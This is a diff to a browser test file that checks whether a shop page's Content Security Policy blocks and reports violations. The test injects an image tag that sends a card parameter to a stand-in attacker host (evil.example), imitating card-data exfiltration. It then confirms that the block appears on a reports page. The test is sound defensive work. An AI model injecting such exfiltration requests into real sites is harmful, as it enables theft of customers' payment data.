@@ -19,7 +19,7 @@ describe('strict policies and missing browser features', () => {
   });
 
   test('what the policy of the shop’s pages blocks is listed on its page [DEC-Q392]', async () => {
-    const shop = await visit(productPath(PAPER.sku), { complaints: [/Content Security Policy/, /TrustedHTML/] });
+    const shop = await visit(productPath(PAPER.sku), { complaints: [/Content.Security.Policy/, /TrustedHTML/] });
 
     await shop.page.evaluate(() => {
       document.head.append(Object.assign(document.createElement('img'), { src: 'https://evil.example/x?card=1' }));
@@ -30,9 +30,11 @@ describe('strict policies and missing browser features', () => {
       }
     });
 
+    // in a tab of its own, because Firefox sends no reports of a page that is left at once
+    const { page } = await shop.openTab('/webapp/policy');
     const listed = async () => {
-      await shop.goto('/webapp/policy');
-      return (await shop.page.getByRole('list', { name: 'Reports' }).textContent()) ?? '';
+      await page.reload();
+      return (await page.getByRole('list', { name: 'Reports' }).textContent()) ?? '';
     };
     await expect.poll(listed).toMatch(/img-src blocked https:\/\/evil\.example\/x on \/webapp\/product\//);
     await expect.poll(listed).toMatch(/require-trusted-types-for blocked trusted-types-sink/);
